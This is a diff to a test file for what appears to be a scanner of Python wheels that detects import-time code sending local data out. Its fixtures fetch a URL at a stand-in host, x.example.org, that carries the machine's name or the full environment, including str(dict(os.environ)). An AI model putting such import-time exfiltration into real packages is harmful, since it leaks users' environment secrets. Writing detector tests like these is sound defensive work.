@@ -145,6 +145,38 @@ def test_a_module_that_waits_until_it_is_asked_fires_nothing(source: bytes) -> N
     assert not any(name.startswith("import-") for name in fired(WHEEL, wheel({"tidetables/__init__.py": source})))
 
 
+FETCHES = b"import os, platform, subprocess, urllib.request\n"
+FETCHED = b"urllib.request.urlretrieve('https://x.example.org/lib-' + name, 'lib.zip')\n"
+
+
+@pytest.mark.parametrize(
+    "keeps",
+    [
+        b"name = 'a'\nenv = os.environ.copy()\nenv['CC'] = 'cc'\nsubprocess.check_call(['make'], env=env)\n",
+        b"name = 'a'\nsubprocess.check_call(['make'], env={**os.environ, 'CC': 'cc'})\n",
+        b"name = 'a'\nsubprocess.check_call(['make'], env=dict(os.environ, CC='cc'))\n",
+        b"name = 'a'\nsubprocess.check_call(['make'], env=os.environ)\n",
+        b"name = platform.uname().machine\n",
+        b"uname = platform.uname()\nname = uname.system\nif not name:\n    raise OSError(f'unknown: {uname}')\n",
+    ],
+)
+def test_what_is_learned_of_the_machine_and_kept_is_not_sent(keeps: bytes) -> None:
+    assert "import-sends-local-data" not in fired(WHEEL, wheel({"tidetables/__init__.py": FETCHES + keeps + FETCHED}))
+
+
+@pytest.mark.parametrize(
+    "passes",
+    [
+        b"env = os.environ.copy()\nname = str(env)\nsubprocess.check_call(['make'], env=env)\n",
+        b"env = {**os.environ}\nname = repr(list(env.values()))\n",
+        b"name = str(dict(os.environ))\n",
+        b"uname = platform.uname()\nname = '-'.join(uname)\nprint(uname.system)\n",
+    ],
+)
+def test_what_is_learned_of_the_machine_and_passed_on_may_be_sent(passes: bytes) -> None:
+    assert "import-sends-local-data" in fired(WHEEL, wheel({"tidetables/__init__.py": FETCHES + passes + FETCHED}))
+
+
 def test_a_word_as_long_as_a_payload_is_passed_over_at_once() -> None:
     # With a step for each pair of its characters, this would take an hour.
     assert not may_act(b"import requests\n# requests " + b"a" * 1_000_000 + b"\n")
